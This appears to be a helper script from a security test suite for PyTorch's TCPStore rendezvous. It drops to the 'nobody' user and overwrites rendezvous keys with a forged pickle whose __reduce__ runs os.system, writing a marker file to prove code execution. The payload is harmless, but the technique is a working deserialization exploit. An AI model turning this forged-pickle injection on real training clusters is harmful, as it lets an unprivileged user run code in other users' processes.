"""The stranger of the store tests: drops to uid/gid 65534 (nobody) before it touches the
store, then writes a forged rendezvous state whose unpickling would create MARKER.

    python stranger.py HOST:PORT MARKER  -> prints "uid=65534 wrote <key>" or "no state key"
"""

from __future__ import annotations

import base64
import datetime
import os
import pickle
import sys
import time

from torch.distributed import TCPStore  # imported while still root: nobody cannot read the venv


class Payload:
    """What an attacker would send: unpickling it runs a command."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id > {self.marker}",)


def main() -> None:
    endpoint, marker = sys.argv[1], sys.argv[2]
    host, port = endpoint.rsplit(":", 1)
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    store = TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=30))
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        keys = [k for k in store.list_keys() if k.startswith("torch.rendezvous.") and "/" not in k]
        if keys:
            forged = base64.b64encode(pickle.dumps(Payload(marker))).decode()
            for key in keys:
                store.set(key, forged)
            print(f"uid={os.getuid()} wrote {' '.join(keys)}", flush=True)
            return
        time.sleep(0.2)
    print("no state key", flush=True)


if __name__ == "__main__":
    main()
